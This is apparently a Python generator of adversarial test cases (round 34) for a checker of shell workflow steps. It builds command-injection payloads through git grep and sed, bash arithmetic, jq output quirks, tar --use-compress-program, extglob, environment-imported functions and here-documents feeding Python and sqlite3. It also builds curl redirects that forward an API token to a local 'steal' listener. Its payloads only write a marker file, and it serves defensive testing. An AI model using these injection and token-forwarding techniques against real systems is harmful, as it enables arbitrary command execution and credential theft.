# Round thirty-four attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), desc)
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee /tmp/harbor-r34-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
REV = {"type": "string", "minLength": 1, "maxLength": 300,
       "description": "a revision (branch, tag, commit or any git revision expression) to read"}
NOTE = {"type": "string", "minLength": 1, "maxLength": 300, "description": "a free-text note"}
REPORT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 4096,
          "description": "the report JSON the caller's CI produced"}
RPATH = {"type": "string", "minLength": 1, "maxLength": 200, "pattern": "^[a-z0-9][a-z0-9/._-]*$",
         "description": "report path under the reports API"}
REDIR302 = "go/127.0.0.1/18765/steal"       # the author's API answers 302 to http://127.0.0.1:18765/steal
REDIR307 = "go307/127.0.0.1/18765/steal"    # ... and 307 (method and body kept)


def b64(s):
    import base64
    return base64.b64encode(s.encode()).decode()


# ============================================================ 1. git grep prints the revision as written
GREPW = ("Round 33 made 'what git blame, grep, diff, cherry … print of a repository no step writes' the author's, "
         "'as git log's is' (git log's reading holds with a caller's revision that cannot be an option). "
         "But `git grep PATTERN REV` prefixes every line with REV exactly as the caller wrote it (`REV:path:…`), "
         "and a revision expression `main^{/REGEX}` may hold any text (git reads the regex as ERE, so "
         "`…|initial` still finds the first commit; `:` inside the braces is not the `rev:path` colon). ")
R("git-grep-rev-sed", "git-output-revision-echo", "Show the changelog of a revision from its first version heading.",
  {"rev": REV},
  r'''
  n=$(git grep -n -e '^## ' "$ARG_rev" -- CHANGELOG.md | head -n 1 | cut -d: -f3)
  git show "$ARG_rev:CHANGELOG.md" | sed -n "${n},+3p"
  ''',
  {"rev": "main^{/x:y:1e " + SHP + " #|initial}"},
  GREPW + "The third `:` field of the first line is then the caller's `1e CMD #…` and sed's `e` runs CMD.")

R("git-grep-rev-arith", "git-output-revision-echo", "Count the non-empty lines of src/ at a revision.",
  {"rev": REV},
  r'''
  total=0
  while IFS=: read -r rev path n; do
    total=$(( total + n ))
  done < <(git grep -c -e . "$ARG_rev" -- src)
  echo "non-empty lines in src at $ARG_rev: $total"
  ''',
  {"rev": "main^{/a:b:x[$(echo HARBOR$'\\x2d'PWNED$'\\x2d'$((6*7)) | " + TEE + " >&2)]|initial}"},
  GREPW + "`IFS=: read` (IFS set only before the read, as round 27 allows) puts the text after the revision's second "
  "`:` into `n`, and `$(( total + n ))` evaluates `x[$(CMD)]`. The payload spells its dashes `$'\\x2d'` so the "
  "regex's bracket expression has no bad range.")

# ============================================================ 2. jq's null/true/false set by a writer the docs do not list
NULLW = ("Round 33: what jq prints without -r is JSON texts, inert in arithmetic, and `true`/`false`/`null` are names "
         "the script must not set: 'an assignment, read, printf -v, ${null:=…}, a name reference, eval or source "
         "anywhere makes it caller data again'. ")
R("jq-null-mapfile", "jq-json-name-set", "Count the open orders; keep the caller's note lines.",
  {"note": NOTE},
  r'''
  mapfile -t null <<< "$ARG_note"
  n=$(jq '.summary.open' data/orders.json)
  if (( n > 0 )); then echo "open orders: $n"; fi
  printf 'note: %s\n' "${null[@]}"
  ''',
  {"note": "x[$(" + SHP + " >&2)]"},
  NULLW + "`mapfile -t null` is none of those writers; `.summary.open` is absent so jq prints `null`, and "
  "`(( n > 0 ))` evaluates `null`, i.e. `null[0]`, the caller's `x[$(CMD)]`.")

R("jq-null-element", "jq-json-name-set", "Count the open orders; keep the caller's note.",
  {"note": NOTE},
  r'''
  null[0]="$ARG_note"
  n=$(jq '.summary.open' data/orders.json)
  if (( n > 0 )); then echo "open orders: $n"; fi
  echo "note: ${null[0]}"
  ''',
  {"note": "x[$(" + SHP + " >&2)]"},
  NULLW + "An element assignment `null[0]=…` names `null[0]`, not `null`; arithmetic's `null` is `null[0]`.")

R("jq-null-default-nocolon", "jq-json-name-set", "Count the open orders; show the caller's note (if any).",
  {"note": NOTE},
  r'''
  : "${null=$ARG_note}"
  n=$(jq '.summary.open' data/orders.json)
  if (( n > 0 )); then echo "open orders: $n"; fi
  echo "note: $null"
  ''',
  {"note": "x[$(" + SHP + " >&2)]"},
  NULLW + "The docs name `${null:=…}`; `${null=…}` (no colon) assigns too when `null` is unset.")

R("jq-false-for-loop", "jq-json-name-set", "Say whether the beta feature is on; echo the caller's tags.",
  {"tags": {"type": "array", "items": {"type": "string", "minLength": 1, "maxLength": 200}, "maxItems": 5,
            "description": "tags to print"}},
  r'''
  mapfile -t tags < <(jq -r '.[]' <<< "$ARG_tags")
  for false in "${tags[@]}"; do echo "tag: $false"; done
  beta=$(jq '.features.beta' config/app.json)
  if (( beta )); then echo "beta on"; else echo "beta off"; fi
  ''',
  {"tags": ["x[$(" + SHP + " >&2)]"]},
  NULLW + "A `for` loop's variable is none of the listed writers; after the loop `false` keeps the caller's last tag. "
  "jq prints `false` for `.features.beta`, and `(( beta ))` evaluates the name `false`.")

X("jq-null-local", "jq-json-name-set", "Count the open orders for the caller's label.",
  {"label": NOTE},
  [("s", r'''
  count() {
    local null="$ARG_label"
    local n
    n=$(jq '.summary.open' data/orders.json)
    if (( n > 0 )); then echo "open orders for $null: $n"; else echo "no open orders for $null"; fi
  }
  count
  ''', None)],
  {"label": "x[$(" + SHP + " >&2)]"},
  NULLW + "`local null=…` is a declaration builtin's operand, not an assignment statement; inside the function "
  "jq's `null` reads it.")

# ============================================================ 3. jq raw output spelled another way
RAWW = ("Round 33: 'what jq prints without -r, -j, --seq or -C (and without its errors joined, 2>&1) is JSON texts, "
        "inert in arithmetic (n=$(jq '.totalCount // 0' f); (( n == 0 )))'. The caller's report (an attachment, "
        "saved in the run directory) holds `{\"totalCount\": \"x[$(CMD)]\"}`. ")
RJ = b64(json.dumps({"totalCount": "x[$(" + SHP + " >&2)]"}))
R("jq-raw-cluster", "jq-raw-unseen", "Say whether the caller's report has findings.",
  {"report": REPORT},
  r'''
  n=$(jq -er '.totalCount // 0' "$ARG_report")
  if (( n == 0 )); then echo "clean"; else echo "findings: $n"; fi
  ''',
  {"report": RJ},
  RAWW + "`-er` is `-e -r` in one cluster; the string is printed raw.")

R("jq-raw-after-file", "jq-raw-unseen", "Say whether the caller's report has findings.",
  {"report": REPORT},
  r'''
  n=$(jq '.totalCount // 0' "$ARG_report" --raw-output)
  if (( n == 0 )); then echo "clean"; else echo "findings: $n"; fi
  ''',
  {"report": RJ},
  RAWW + "jq reads options anywhere on its command line: `--raw-output` after the filter and the file still applies.")

R("jq-halt-error-stdout", "jq-raw-unseen", "Say whether the caller's report has findings (or its error).",
  {"report": REPORT},
  r'''
  n=$(jq '.totalCount // (.message | halt_error)' "$ARG_report" 2>/dev/stdout || true)
  if (( n == 0 )); then echo "clean"; else echo "findings: $n"; fi
  ''',
  {"report": b64(json.dumps({"message": "x[$(" + SHP + " >&2)]"}))},
  RAWW + "Here the report has no totalCount: `halt_error` prints the message string raw (no quotes, no newline) on "
  "stderr, and `2>/dev/stdout` joins it as `2>&1` would.")

# ============================================================ 4. jq -c '[…]…' that is not one constructor
CONW = ("Round 33: `jq -c '{…}'` or `'[…]'` (one object or array constructor, whatever --arg values it holds) prints "
        "texts that start with `{` (`[`), so never `file://` nor `-`; so the member (leading_dash: true) is "
        "believed harmless after jq. These programs start with a constructor (and two end with `]`) but index it, "
        "so jq -rc prints the caller's string itself. tar runs `--use-compress-program` through /bin/sh -c. ")
MEMBER = {"type": "string", "minLength": 1, "maxLength": 300, "leading_dash": True,
          "description": "extra member of docs/ to bundle (passed through jq, which quotes it)"}
TARP = "--use-compress-program=" + SHP + " >&2; cat #"
for nm, prog in (("jq-index-constructor", "[$m][0]"), ("jq-pipe-constructor", "[$m] | .[0]"),
                 ("jq-field-constructor", "{m: $m}.m")):
    R(nm, "jq-constructor-not-whole", "Bundle docs/index.md and one extra member.",
      {"member": MEMBER},
      r'''
      m=$(jq -rc -n --arg m "$ARG_member" '%s')
      tar -cf "$HARBOR_RUN_DIR/docs.tar" -C docs index.md "$m"
      ''' % prog,
      {"member": TARP},
      CONW + "Program: `%s`." % prog)

# ============================================================ 5. curl -L keeps the secret on the redirect
CURLW = ("H010 refuses 'curl -L with a header other than Authorization: or Cookie:' and a body from stdin or a "
         "file a secret was written to. The caller chooses the path on the author's API, which redirects "
         "(`/go…/HOST/PORT/…`) to the caller's listener. ")
for nm, opt, red, why in (
        ("curl-auth-space-colon", r'-H "Authorization : Bearer $API_TOKEN"', REDIR302,
         "curl drops only a header that starts `Authorization:` on a redirect to another host; "
         "`Authorization :` (blank before the colon) reads as Authorization to a loose parse but is kept."),
        ("curl-json-body-307", r'--json "{\"token\": \"$API_TOKEN\"}"', REDIR307,
         "`--json` is `--data` with JSON headers; on a 307 curl sends the same body to the new host."),
        ("curl-form-307", r'-F "token=$API_TOKEN"', REDIR307,
         "A multipart `-F` body is sent again to the 307's new host."),
        ("curl-data-urlencode-307", r'--data-urlencode "token=$API_TOKEN"', REDIR307,
         "`--data-urlencode` body, sent again on 307."),
        ("curl-data-307", r'-d "token=$API_TOKEN"', REDIR307,
         "A plain `-d` body on the command line (not stdin, not a file): sent again on 307.")):
    R(nm, "curl-redirect-keeps-secret", "Fetch a report from the reports API.",
      {"path": RPATH},
      r'''
      curl -sS -L %s "http://127.0.0.1:18766/$ARG_path" -o "$HARBOR_RUN_DIR/report.json" || true
      jq -c '.status' "$HARBOR_RUN_DIR/report.json" || true
      ''' % opt,
      {"path": red},
      CURLW + why, head=SEC)

# ============================================================ 6. a function imported from the step's env:
FUNW = ("Round 26 refuses a function named as a program the checker reads by name (it runs in the program's place). "
        "Round 33 forbids bash's settings in `env:` (SHELLOPTS, BASHOPTS, CDPATH…) but bash also imports "
        "functions from the environment: `BASH_FUNC_NAME%%=() {…}` defines NAME before line 1, so no definition "
        "shows in the script. ")
R("env-func-grep", "env-imported-function", "Count the lines of logs/app.log that match a pattern.",
  {"pattern": {"type": "string", "minLength": 1, "maxLength": 200, "description": "text to look for"}},
  r'''
  grep -c -e "$ARG_pattern" -- logs/app.log || echo 0
  ''',
  {"pattern": "x$(" + SHP + " >&2)"},
  FUNW + "The author's `grep` wrapper adds `--color=never` through `eval \"command grep … $*\"`; the caller's "
  "pattern is re-read as shell text.",
  env={"BASH_FUNC_grep%%": "() { eval \"command grep --color=never $*\"; }"})

R("env-func-wc", "env-imported-function", "Count the lines of a project file.",
  {"path": {"type": "string", "minLength": 1, "maxLength": 200, "within": ".",
            "description": "a file of the project (must stay inside it)"}},
  r'''
  wc -l -- "$ARG_path"
  ''',
  {"path": "x$(" + SHP + " >&2)"},
  FUNW + "`wc` is an imported function that `eval`s its words; `within: \".\"` holds (the path's components "
  "do not exist and stay inside).",
  env={"BASH_FUNC_wc%%": "() { eval \"command wc $*\" 2>/dev/null || true; }"})

# ============================================================ 7. extglob turned on in a spelling the checker misses
EXTW = ("Round 33: 'where the script may turn on extglob (shopt -s extglob, a shopt of a variable's option, eval, "
        "source), an unquoted value that may hold ( is a glob'. The selection's pattern admits no blank and no "
        "`*?[`, so without extglob it is one literal word that cannot start with `-`. With extglob on, `!(x)` "
        "lists every file of the run's bundle folder, among them the caller's `--use-compress-program=sh<note`, "
        "and tar runs `sh<note`: the caller's note as a script. ")
SEL = {"type": "string", "minLength": 1, "maxLength": 100, "pattern": "^[A-Za-z0-9_.!()|@+-]+$",
       "description": "which files of the bundle to pack: one name or pattern word (no blanks, no * ? [)"}
EXTRA = {"type": "string", "minLength": 1, "maxLength": 100, "pattern": "^[^/]+$", "leading_dash": True,
         "description": "name of an empty placeholder file to add to the bundle (created as ./NAME)"}
for nm, line, why in (("extglob-backslash", r"shopt -s ext\glob", "`ext\\glob` is `extglob` after quote removal."),
                      ("extglob-qs", "shopt -qs extglob", "`-qs`: `-q` and `-s` in one word."),
                      ("extglob-second-operand", "shopt -s nullglob extglob", "extglob is the second operand.")):
    R(nm, "extglob-unseen", "Bundle the caller's note with a selection of the bundle's files.",
      {"note": NOTE, "extra": EXTRA, "sel": SEL},
      r'''
      %s
      d="$HARBOR_RUN_DIR/bundle"
      mkdir -p "$d"
      cd "$d"
      printf '%%s\n' "$ARG_note" > note
      : > "./$ARG_extra"
      tar -cf ../bundle.tar $ARG_sel
      ''' % line,
      {"note": SHP, "extra": "--use-compress-program=sh<note", "sel": "!(x)"},
      EXTW + why)

# ============================================================ 8. a here-document followed by ||
HDW = ("Round 33: 'the commands tree-sitter reads into a here-document's node (python3 - <<'PY' || printf … \"$h\") "
       "are not the document's text'. With an unquoted delimiter and `||` after it, bash gives the document (with "
       "the caller's value expanded into it) to the first command. ")
R("heredoc-or-python", "heredoc-or", "Print a banner for the caller's title.",
  {"title": NOTE},
  r'''
  python3 - <<PY || echo "banner failed" >&2
  print("== $ARG_title ==")
  PY
  ''',
  {"title": "x\"); import os; os.system('" + SHP + "'); print(\""},
  HDW + "The caller's title closes Python's string and calls os.system.")

R("heredoc-or-sqlite", "heredoc-or", "Count the orders of an item.",
  {"item": {"type": "string", "minLength": 1, "maxLength": 200, "description": "item name"}},
  r'''
  sqlite3 data/app.db <<SQL || echo "query failed" >&2
  select count(*) from orders where item = '$ARG_item';
  SQL
  ''',
  {"item": "x' union select 'HARBOR-PWNED-' || (6*7) union select writefile('/tmp/harbor-r34-pwned', 'HARBOR-PWNED-' || (6*7)) --"},
  HDW + "The caller's item closes the SQL string; sqlite3's `writefile()` writes the marker.")
